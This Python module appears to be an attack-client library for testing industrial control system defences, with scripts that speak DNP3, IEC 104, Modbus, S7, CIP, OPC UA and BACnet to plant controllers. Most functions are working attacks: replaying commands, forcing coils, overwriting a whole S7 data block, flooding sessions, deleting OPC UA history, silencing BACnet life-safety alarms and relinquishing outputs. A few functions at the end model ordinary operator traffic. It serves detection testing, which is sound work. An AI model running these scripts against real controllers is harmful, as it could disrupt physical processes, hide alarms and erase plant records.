"""Controllers and stations as published sets of attacks treat them: initialised, replayed, read point by point."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Final

from asyncua import Client, ua

from interlock.plant.protocols import cip, dnp3, iec104, modbus, s7comm
from proving.clients.asking import ENIP, ask_cip, ask_opcua, ask_s7
from proving.clients.talk import Talk, tell

if TYPE_CHECKING:
    from collections.abc import Callable

_MODBUS: Final = 502
_DNP: Final = 20000
_IEC: Final = 2404
_BACNET: Final = 47808
_STATION: Final = 12


def data_initialized(to: str) -> None:
    """DNP3: data set back to what they begin with, and applications started (functions 15, 17)."""
    name = bytes((90, 1, 0x5B, 1)) + struct.pack("<H", 4) + b"main"
    with Talk(to, _DNP) as talk:
        for number in range(3):
            talk.say(dnp3.request(number, 15), 1.0)
        talk.say(dnp3.request(3, 17, name), 1.0)


def command_replayed(to: str) -> None:
    """DNP3: the panel's poll and its command, octet by octet as it says them, by somebody else."""
    with Talk(to, _DNP) as talk:
        for _ in range(3):
            talk.say(dnp3.request(4, 1, b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06\x3c\x01\x06"), 0.5)
            talk.say(dnp3.request(5, 3, dnp3.control(0, on=False)), 0.2)
            talk.say(dnp3.request(6, 4, dnp3.control(0, on=False)), 1.5)


def events_taken(to: str) -> None:
    """DNP3: events asked for and confirmed by the historian, so that the master never hears them."""
    with Talk(to, _DNP) as talk:
        for number in range(8):
            talk.say(dnp3.request(number, 1, b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06"), 0.3)
            talk.say(dnp3.request(number, 0), 0.7)


def reports_to_station(to: str) -> None:
    """IEC 104: single points told to the station itself, six hundred (M_SP_NA_1_DoS)."""
    master = iec104.Master(_STATION)
    with Talk(to, _IEC, 0.01) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for number in range(600):
            talk.say(master.command(1, 1 + number % 8, b"\x01", cause=3), 0.01)


def points_read(to: str) -> None:
    """IEC 104: one point after another read (C_RD_NA_1), by the historian."""
    master = iec104.Master(_STATION)
    with Talk(to, _IEC, 0.2) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for address in range(1, 31):
            talk.say(master.command(102, address, b"", cause=5), 0.3)


def counters_poured(to: str) -> None:
    """IEC 104: counters asked for over and over by the panel (C_CI_NA_1_DoS)."""
    master = iec104.Master(_STATION)
    with Talk(to, _IEC, 0.02) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for _ in range(300):
            talk.say(master.command(101, 0, b"\x05"), 0.01)


def tests_poured(to: str) -> None:
    """IEC 104: TESTFR over and over."""
    with Talk(to, _IEC, 0.02) as talk:
        for _ in range(600):
            talk.say(iec104.u_frame(iec104.TESTFR), 0.005)


def file_sent(to: str) -> None:
    """IEC 104: a file handed to the station (file ready, section ready, segments, last section)."""
    master = iec104.Master(_STATION)
    name = struct.pack("<H", 2)
    rows = [
        (120, name + (200).to_bytes(3, "little") + b"\0"),
        (121, name + b"\1" + (200).to_bytes(3, "little") + b"\0"),
    ]
    rows += [(125, name + b"\1" + bytes((100,)) + b"MZ" + bytes(98))] * 2
    rows += [(123, name + b"\1\3\x55"), (123, name + b"\1\1\x55")]
    with Talk(to, _IEC) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        for kind, element in rows:
            talk.say(master.command(kind, 0, element, cause=13), 0.5)


def lengths_false(to: str) -> None:
    """Modbus: headers whose length is not what follows: too short, too long, none, the most there can be."""
    pdu = modbus.read(3, 0, 2)
    for number, length in enumerate((1, 2, 3, 20, 255, 300, 4000, 65535, 0, 5)):
        with Talk(to, _MODBUS, 0.3) as talk:
            talk.say(struct.pack("!HHHB", number, 0, length, 1) + pdu, 0.2)


def frames_stacked(to: str) -> None:
    """Modbus: a dozen requests in one segment, every second one a write of a coil or register."""
    rows = []
    for number in range(12):
        pdu = (
            modbus.read(3, 0, 2),
            modbus.write_coil(0, on=True),
            modbus.read(4, 0, 5),
            modbus.write_register(0, 1600),
        )[number % 4]
        rows.append(modbus.adu(number + 1, 1, pdu))
    with Talk(to, _MODBUS) as talk:
        for _ in range(3):
            talk.say(b"".join(rows), 1.0)


def coils_forced(to: str) -> None:
    """Modbus: every coil tried by the historian, one after another."""
    with Talk(to, _MODBUS) as talk:
        for number in range(30):
            talk.say(modbus.adu(number + 1, 1, modbus.write_coil(number, on=True)), 0.1)


def bits_in_setpoint(to: str) -> None:
    """Modbus: a message for somebody else in the lowest bit of a set point, by the panel."""
    with Talk(to, _MODBUS) as talk:
        for number, bit in enumerate("010101010110111101100101"):
            talk.say(modbus.adu(number + 1, 1, modbus.write_register(0, 1500 + int(bit))), 1.0)


def setups_poured(to: str) -> None:
    """S7: connections begun and set up, and left, a hundred and fifty."""
    for _ in range(150):
        with Talk(to, 102, 0.1) as talk:
            talk.say(s7comm.connect(), 0.0)
            talk.say(s7comm.setup(1), 0.02)


def answers_injected(to: str) -> None:
    """S7: answers that nobody asked for told to a controller, and messages of kinds that are none."""
    rows = [
        s7comm.job(n, b"\x04\x01", b"\xff\x04\x00\x20\x00\x00\x00\x00", s7comm.ACK_DATA) for n in range(2, 12)
    ]
    rows += [s7comm.job(n, b"\x04\x01", b"", n) for n in (2, 4, 5, 6, 8, 9)]
    ask_s7(to, rows, 0.3)


def block_filled(to: str) -> None:
    """S7: a whole data block overwritten with zeros in one request, by the panel."""
    item = b"\x12\x0a\x10\x02" + struct.pack("!HHB", 64, 1, 0x84) + bytes(3)
    data = struct.pack("!BBH", 0, 4, 64 * 8) + bytes(64)
    ask_s7(to, [s7comm.job(2, b"\x05\x01" + item, data)] * 2, 1.5)


def timers_written(to: str) -> None:
    """S7: timers and counters written by the panel."""
    rows = []
    for number, (area, kind) in enumerate(((0x1D, 0x1D), (0x1C, 0x1C)) * 2, 2):
        item = (
            b"\x12\x0a\x10" + bytes((kind,)) + struct.pack("!HHB", 1, 0, area) + struct.pack("!I", number)[1:]
        )
        rows.append(s7comm.job(number, b"\x05\x01" + item, struct.pack("!BBHH", 0, 9, 2, 0x0999)))
    ask_s7(to, rows, 1.0)


def slots_routed(to: str) -> None:
    """CIP: who is in each slot of the backplane asked through the controller (Unconnected Send)."""
    inner = cip.request(cip.GET_ALL, cip.object_path(1, 1))
    rows = []
    for slot in range(12):
        data = struct.pack("<BBH", 10, 14, len(inner)) + inner + struct.pack("<BBBB", 1, 0, 1, slot)
        rows.append(cip.request(0x52, cip.object_path(6, 1), data))
    ask_cip(to, rows, 0.3)


def tags_together(to: str) -> None:
    """CIP: tags of the filler written in one Multiple Service Packet, by the historian."""
    ask_cip(
        to, [cip.many([cip.write_tag("Filler_Start", 0.0), cip.write_tag("Filler_SpeedSP", 99.0)])] * 2, 2.0
    )


def parameters_set(to: str) -> None:
    """CIP: parameters of a drive set and saved (class 0x0F, services 0x10 and 0x16), by the engineering station."""
    rows = [cip.request(0x10, cip.object_path(0x0F, n, 1), struct.pack("<H", 9000)) for n in (1, 2, 3)]
    ask_cip(to, [*rows, cip.request(0x16, cip.object_path(0x0F, 0))], 1.0)


def sessions_used(to: str) -> None:
    """OPC UA: sixty sessions made, none of them activated, none closed."""

    async def do() -> None:
        held = []
        for _ in range(60):
            client = Client(f"opc.tcp://{to}:4840", timeout=1)
            held.append(client)
            with contextlib.suppress(Exception):
                await client.connect_socket()
                await client.send_hello()
                await client.open_secure_channel()
                await client.uaclient.create_session(ua.CreateSessionParameters())
        await asyncio.sleep(3.0)
        for client in held:
            with contextlib.suppress(Exception):
                client.disconnect_socket()

    asyncio.run(do())


def chunks_endless(to: str) -> None:
    """OPC UA: a message that never ends, chunk after chunk."""
    url = f"opc.tcp://{to}:4840".encode("ascii")
    hello = struct.pack("<IIIIII", 0, 65536, 65536, 0, 0, len(url)) + url
    policy = b"http://opcfoundation.org/UA/SecurityPolicy#None"
    asked = struct.pack("<I", len(policy)) + policy + b"\xff" * 8 + struct.pack("<II", 1, 1)
    asked += bytes.fromhex("0100be01") + bytes(2) + struct.pack("<QIIIi", 0, 1, 0, 0, -1)[2:] + bytes(3)
    with Talk(to, 4840) as talk:
        talk.say(b"HELF" + struct.pack("<I", len(hello) + 8) + hello)
        talk.say(b"OPNF" + struct.pack("<II", len(asked) + 12, 0) + asked, 0.2)
        for number in range(400):
            talk.send(b"MSGC" + struct.pack("<IIIII", 8192 + 24, 1, 1, number + 2, 2) + bytes(8192))
            time.sleep(0.01)


def server_registered(to: str) -> None:
    """OPC UA: a server that is none registered, so that clients find it (RegisterServer)."""

    async def do(client: Client) -> None:
        for kind in (ua.ApplicationType.Server, ua.ApplicationType.DiscoveryServer):
            one = ua.RegisteredServer()
            one.ServerUri, one.ProductUri = "urn:plc-pasteuriser:opcua", "urn:maker:opcua"
            one.DiscoveryUrls, one.ServerType = ["opc.tcp://10.77.1.40:4840"], kind
            one.ServerNames, one.IsOnline = [ua.LocalizedText("Pasteuriser")], True
            with contextlib.suppress(Exception):
                await client.uaclient.register_server(one)
            await asyncio.sleep(1.0)

    ask_opcua(to, do)


def history_deleted(to: str) -> None:
    """OPC UA: what was measured deleted by the historian (HistoryUpdate, DeleteRawModifiedDetails)."""

    async def do(client: Client) -> None:
        for name in ("Temperature", "Flow"):
            what = ua.DeleteRawModifiedDetails()
            what.NodeId = ua.NodeId.from_string(f"ns=2;s=Pasteuriser.{name}")
            what.StartTime, what.EndTime = (
                datetime(2026, 11, 1, tzinfo=UTC),
                datetime(2026, 11, 30, tzinfo=UTC),
            )
            asked = ua.HistoryUpdateParameters([what])
            with contextlib.suppress(Exception):
                await client.uaclient.history_update(asked)
            await asyncio.sleep(1.0)

    ask_opcua(to, do)


def sampled_at_once(to: str) -> None:
    """OPC UA: forty subscriptions of a millisecond each, by the historian."""

    async def do(client: Client) -> None:
        nodes = [client.get_node(f"ns=2;s=Pasteuriser.{name}") for name in ("Temperature", "Flow")]
        for _ in range(40):
            with contextlib.suppress(Exception):
                await (await client.create_subscription(1, _Deaf())).subscribe_data_change(
                    nodes, queuesize=1000
                )
        await asyncio.sleep(3.0)

    ask_opcua(to, do)


class _Deaf:
    def datachange_notification(self, node: object, val: object, data: object) -> None:
        """Hear, and do nothing."""


def _bacnet(*apdus: bytes) -> list[bytes]:
    return [struct.pack("!BBH", 0x81, 0x0A, 6 + len(apdu)) + b"\1\4" + apdu for apdu in apdus]


def values_subscribed(to: str) -> None:
    """BACnet: changes of every value subscribed to by a stranger (SubscribeCOV)."""
    rows = [
        bytes((0, 5, n, 5)) + b"\x09\x07\x1c" + struct.pack("!I", (n % 3) << 22 | n) + b"\x29\x00\x39\x00"
        for n in range(20)
    ]
    tell(to, _BACNET, *_bacnet(*rows), pause_s=0.1)


def alarm_silenced(to: str) -> None:
    """BACnet: alarms silenced and reset by the panel (LifeSafetyOperation)."""
    rows = [
        bytes((0, 5, n, 27))
        + b"\x09\x01\x1d\x04\x00hmi\x29"
        + bytes((operation,))
        + b"\x3c"
        + struct.pack("!I", 21 << 22 | 1)
        for n, operation in enumerate((1, 4, 7))
    ]
    tell(to, _BACNET, *_bacnet(*rows), pause_s=1.0)


def outputs_relinquished(to: str) -> None:
    """BACnet: every priority of an output given up by the panel (Null at 1 to 16)."""
    rows = []
    for priority in range(1, 17):
        head = (
            bytes((0, 5, priority, 15)) + b"\x0c" + struct.pack("!I", 1 << 22 | 1) + b"\x19\x55\x3e\x00\x3f"
        )
        rows.append(head + b"\x49" + bytes((priority,)))
    tell(to, _BACNET, *_bacnet(*rows), pause_s=0.2)


def set_in_order(to: str) -> None:
    """The engineering station moves a set point within its range and back, as ordered."""
    with Talk(to, _MODBUS) as talk:
        for number, value in enumerate((1550, 1500)):
            talk.say(modbus.adu(2 * number + 1, 1, modbus.read(3, 0, 1)), 1.0)
            talk.say(modbus.adu(2 * number + 2, 1, modbus.write_register(0, value)), 4.0)


def block_in_order(to: str) -> None:
    """The engineering station hands a data block over and puts it in, as ordered: each part as the controller asks."""
    name = b"_0A00009P"
    asked = b"\x1a\x00\x01\x00\x00\x00\x00\x00\x09" + name + b"\x0d1000100000050"
    insert = b"\x28\x00\x00\x00\x00\x00\x00\xfd\x00\x0a\x01\x000A00009P\x05_INSE"
    part = struct.pack("!HH", 100, 0x00FB) + bytes(100)
    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1), 0.5)
        heard = talk.say(s7comm.job(2, asked), 0.3)
        heard = talk.say(s7comm.confirm(_asked_last(heard), b"\x1b\x00", part), 0.3)
        talk.say(s7comm.confirm(_asked_last(heard), b"\x1c"), 0.5)
        talk.say(s7comm.job(3, insert), 1.0)


def _asked_last(heard: bytes) -> int:
    """Reference of the last job that a controller asks of whom it talks to."""
    at = heard.rfind(b"\x32\x01")
    return int.from_bytes(heard[at + 4 : at + 6], "big")


def looked_for(to: str) -> None:
    """The panel looks for the hall's controller, as BACnet clients do when they begin, and announces itself."""
    asked = b"\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08"
    near = to.rpartition(".")[0] + ".255"
    tell(near, _BACNET, asked, pause_s=1.0)
    read = bytes((0, 5, 1, 12)) + b"\x0c" + struct.pack("!I", 8 << 22 | 4194303) + b"\x19\x4d"
    tell(to, _BACNET, *_bacnet(read), pause_s=1.0)


def kept_alive(to: str) -> None:
    """The engineering station opens a connection to the filler's controller, as ordered, and keeps it idle."""
    with Talk(to, ENIP) as talk:
        session = cip.session_of(talk.say(cip.register()).ljust(8, b"\0"))
        talk.say(cip.unconnected(session, cip.request(cip.GET_ALL, cip.object_path(1, 1)), 1), 12.0)
        talk.say(cip.unconnected(session, cip.request(cip.GET_ALL, cip.object_path(1, 1)), 2), 1.0)
        talk.say(cip.encapsulate(cip.UNREGISTER, session), 0.2)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "data-initialized": data_initialized,
    "command-replayed": command_replayed,
    "events-taken": events_taken,
    "reports-to-station": reports_to_station,
    "points-read": points_read,
    "counters-poured": counters_poured,
    "tests-poured": tests_poured,
    "file-sent": file_sent,
    "lengths-false": lengths_false,
    "frames-stacked": frames_stacked,
    "coils-forced": coils_forced,
    "bits-in-setpoint": bits_in_setpoint,
    "setups-poured": setups_poured,
    "answers-injected": answers_injected,
    "block-filled": block_filled,
    "timers-written": timers_written,
    "slots-routed": slots_routed,
    "tags-together": tags_together,
    "parameters-set": parameters_set,
    "sessions-used": sessions_used,
    "chunks-endless": chunks_endless,
    "server-registered": server_registered,
    "history-deleted": history_deleted,
    "sampled-at-once": sampled_at_once,
    "values-subscribed": values_subscribed,
    "alarm-silenced": alarm_silenced,
    "outputs-relinquished": outputs_relinquished,
    "set-in-order": set_in_order,
    "block-in-order": block_in_order,
    "looked-for": looked_for,
    "kept-alive": kept_alive,
}
